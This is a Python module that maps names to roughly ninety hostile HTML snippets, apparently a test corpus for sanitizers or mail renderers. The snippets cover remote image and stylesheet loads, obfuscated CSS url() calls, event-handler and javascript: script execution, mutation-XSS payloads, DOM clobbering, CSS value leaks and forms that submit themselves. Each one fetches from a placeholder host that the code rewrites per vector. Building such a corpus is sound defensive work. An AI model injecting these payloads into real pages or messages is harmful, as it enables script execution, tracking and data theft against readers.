"""Hostile HTML, one vector an entry: each tries to load from a host of its own, to run a script, or to move the page.

Written from the classes of holes that DOMPurify, Roundcube and browsers' own papers tell of. `HOST` becomes the
vector's own name, so that a connection tells which of them made it.
"""

from typing import Final

_PWN: Final = "top.pwned=1"

VECTORS: Final[dict[str, str]] = {
    # Plain loads.
    "img": '<img src="https://HOST/a.png">',
    "img-http": '<img src="http://HOST/a.png">',
    "img-no-scheme": '<img src="//HOST/a.png">',
    "img-backslashes": '<img src="\\\\HOST\\a.png">',
    "img-srcset": '<img srcset="https://HOST/1.png 1x, https://HOST/2.png 2x">',
    "img-lazy": '<img loading="eager" data-src="x" src="https://HOST/l.png" alt="">',
    "image-tag": '<image src="https://HOST/i.png">',
    "picture": '<picture><source srcset="https://HOST/p.webp"><img src="cid:none"></picture>',
    "input-image": '<input type="image" src="https://HOST/i.png">',
    "background-attribute": '<table background="https://HOST/t.png"><tr><td background="https://HOST/d.png">x</table>',
    "body-background": '<body background="https://HOST/b.png">text',
    "video": '<video src="https://HOST/v.mp4" poster="https://HOST/v.png" autoplay></video>',
    "audio": '<audio src="https://HOST/a.mp3" autoplay></audio>',
    "track": '<video autoplay><track default src="https://HOST/t.vtt"></video>',
    "embed": '<embed src="https://HOST/e.swf">',
    "object": '<object data="https://HOST/o.swf"><param name="movie" value="https://HOST/m"></object>',
    "applet": '<applet code="X" codebase="https://HOST/"></applet>',
    "iframe": '<iframe src="https://HOST/f.html"></iframe>',
    "frameset": '<frameset><frame src="https://HOST/f.html"></frameset>',
    "portal": '<portal src="https://HOST/p"></portal>',
    "link-stylesheet": '<link rel="stylesheet" href="https://HOST/s.css">',
    "link-icon": '<link rel="icon" href="https://HOST/f.ico">',
    "link-prefetch": '<link rel="prefetch" href="https://HOST/p"><link rel="preload" as="image" href="https://HOST/q">',
    "link-preconnect": '<link rel="preconnect" href="https://HOST/"><link rel="dns-prefetch" href="//HOST">',
    "link-modulepreload": '<link rel="modulepreload" href="https://HOST/m.js">',
    "link-manifest": '<link rel="manifest" href="https://HOST/m.json">',
    "base": '<base href="https://HOST/"><img src="relative.png">',
    "meta-refresh": '<meta http-equiv="refresh" content="0; url=https://HOST/r">',
    "meta-csp": '<meta http-equiv="Content-Security-Policy" content="report-uri https://HOST/c">',
    "speculation-rules": '<script type="speculationrules">{"prefetch":[{"urls":["https://HOST/s"]}]}</script>',
    # Style.
    "style-import": "<style>@import url(https://HOST/i.css);</style>",
    "style-import-escaped": "<style>@\\69mport 'https://HOST/i.css';</style>",
    "style-background": '<div style="background:url(https://HOST/b.png)">x</div>',
    "style-escaped-url": '<div style="background:\\75\\72\\6c(https://HOST/b.png)">x</div>',
    "style-comment-url": '<div style="background:ur/**/l(https://HOST/b.png)">x</div>',
    "style-image-set": "<div style=\"background-image:image-set('https://HOST/b.png' 1x)\">x</div>",
    "style-entity": '<div style="background&#58;u&#x72;l(https://HOST/b.png)">x</div>',
    "style-list": '<ul><li style="list-style-image:url(https://HOST/l.png)">x</ul>',
    "style-cursor": '<p style="cursor:url(https://HOST/c.cur),auto">x</p>',
    "style-content": "<style>p::after{content:url(https://HOST/c.png)}</style><p>x</p>",
    "style-border-image": '<p style="border:9px solid;border-image:url(https://HOST/bi.png) 3">x</p>',
    "style-font-face": "<style>@font-face{font-family:z;src:url(https://HOST/f.woff)}p{font-family:z}</style><p>text</p>",
    "style-variable": "<style>:root{--u:url(https://HOST/v.png)}</style><p style='background:var(--u)'>x</p>",
    "style-attribute-leak": "<style>input[value^=a]{background:url(https://HOST/l)}</style><input value=abc>",
    "style-newline-url": "<div style=\"background:url(\n'https://HOST/n.png'\n)\">x</div>",
    "style-mask": '<p style="-webkit-mask-image:url(https://HOST/m.svg)">x</p>',
    "style-cover": f'<a href="https://HOST/" style="position:fixed;inset:0;z-index:9" onclick="{_PWN}">cover</a>',
    # Scripts.
    "script": f'<script>{_PWN}; new Image().src="https://HOST/s"</script>',
    "script-src": '<script src="https://HOST/s.js"></script>',
    "script-in-svg": f"<svg><script>{_PWN};fetch('https://HOST/')</script></svg>",
    "onerror": f"<img src=x onerror=\"{_PWN};fetch('https://HOST/')\">",
    "onerror-slash": f"<img/src=x/onerror={_PWN};new/**/Image().src='https://HOST/'>",
    "onload-body": f"<body onload=\"{_PWN};fetch('https://HOST/')\">",
    "onload-svg": f"<svg onload=\"{_PWN};fetch('https://HOST/')\">",
    "ontoggle": f"<details open ontoggle=\"{_PWN};fetch('https://HOST/')\">x</details>",
    "onfocus": f"<input autofocus onfocus=\"{_PWN};fetch('https://HOST/')\">",
    "onanimation": f'<style>@keyframes a{{}}</style><p style="animation:a 1s" onanimationstart="{_PWN}">x</p>',
    "javascript-link": f'<a href="javascript:{_PWN}" target="_self">HOST</a>',
    "javascript-entities": f'<a href="java&#10;script&colon;{_PWN}">x</a>',
    "javascript-iframe": f"<iframe src=\"javascript:{_PWN};fetch('https://HOST/')\"></iframe>",
    "srcdoc": f"<iframe srcdoc=\"<script>{_PWN}</script><img src='https://HOST/d.png'>\"></iframe>",
    "data-iframe": f'<iframe src="data:text/html,<script>{_PWN}</script><img src=https://HOST/x>"></iframe>',
    "data-object": '<object data="data:text/html;base64,PHNjcmlwdD50b3AucHduZWQ9MTwvc2NyaXB0Pg=="></object>',
    "dialog": "<script>alert('HOST')</script><img src=x onerror=alert('HOST')>",
    "popup": "<script>window.open('https://HOST/p')</script>",
    "go-top": "<script>top.location='https://HOST/t'</script>",
    # Forms and links.
    "form": '<form action="https://HOST/f" id="f"><input name="p"></form><script>f.submit()</script>',
    "form-button": '<button form="f" formaction="https://HOST/b">x</button>',
    "ping": '<a href="https://example.org/" ping="https://HOST/ping">x</a>',
    "target-top": '<a href="https://HOST/" target="_top">x</a>',
    # Mutations: what one parser closes and the next one opens.
    "mutation-math": f'<math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={_PWN}&gt;">',
    "mutation-svg-style": f"<svg></p><style><a id=\"</style><img src='https://HOST/m' onerror={_PWN}>\">",
    "mutation-noscript": f"<noscript><p title=\"</noscript><img src='https://HOST/n' onerror={_PWN}>\">",
    "mutation-form": f"<form><math><mtext></form><form><mglyph><style></math><img src='https://HOST/f' onerror={_PWN}>",
    "mutation-comment": f"<!--><img src='https://HOST/c' onerror={_PWN}>-->",
    "mutation-cdata": f"<svg><![CDATA[><img src='https://HOST/d' onerror={_PWN}>]]></svg>",
    "mutation-title": f"<title><a title=\"</title><img src='https://HOST/t' onerror={_PWN}>\"></title>",
    "mutation-xmp": f"<xmp><p title=\"</xmp><img src='https://HOST/x' onerror={_PWN}>\"></xmp>",
    "mutation-textarea": f"<textarea><a title=\"</textarea><img src='https://HOST/a' onerror={_PWN}>\"></textarea>",
    "mutation-template": "<template shadowrootmode=open><img src='https://HOST/sh.png'></template>",
    "mutation-unclosed": "<img src='https://HOST/u.png' alt=\"unclosed",
    "mutation-plaintext": f"<svg><title><plaintext></title><img src='https://HOST/p' onerror={_PWN}>",
    # SVG and clobbering.
    "svg-image": '<svg><image href="https://HOST/i.png" width="9" height="9"/></svg>',
    "svg-use": '<svg><use href="https://HOST/u.svg#a"/></svg>',
    "svg-feimage": '<svg><filter id="f"><feImage href="https://HOST/fe.png"/></filter><rect filter="url(#f)"/></svg>',
    "svg-animate": f'<svg><a><animate attributeName="href" values="javascript:{_PWN}"/><text y="9">x</text></a></svg>',
    "svg-fill": '<svg><rect width="9" height="9" fill="url(https://HOST/g.svg#a)"/></svg>',
    "clobber": '<form name="body"><input name="childNodes"></form><img name="getElementById" src="https://HOST/c.png">',
    "xslt": '<?xml-stylesheet href="https://HOST/x.xsl"?><p>x</p>',
    "encoded-nul": '<im\x00g src="https://HOST/z.png"><img s\x00rc="https://HOST/z.png">',
}
"""Name -> HTML."""


def html_of(name: str, domain: str) -> str:
    """Return the vector with its own host below `domain`."""
    return VECTORS[name].replace("HOST", f"{name}.{domain}")
